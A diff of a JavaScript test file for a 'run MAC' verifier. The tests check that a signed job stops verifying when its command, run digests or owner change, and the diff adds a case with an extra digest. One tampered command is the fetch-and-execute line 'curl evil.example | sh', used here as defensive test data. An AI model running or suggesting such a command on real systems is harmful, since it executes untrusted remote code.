@@ -25,7 +25,9 @@ describe('run MAC', () => {
   it('breaks when anything that decides what runs changes', () => {
     const job = signed();
     assert.ok(!runMac.verifies({ ...job, command: 'curl evil.example | sh' }));
-    assert.ok(!runMac.verifies({ ...job, run: [...job.run, 'acme/c'] }));
+    assert.ok(
+      !runMac.verifies({ ...job, run: { ...job.run, size: 3, digests: [...job.run.digests, 'f'.repeat(64)] } }),
+    );
     assert.ok(!runMac.verifies({ ...job, owner: 'someone-else' }));
     assert.ok(
       !runMac.verifies({
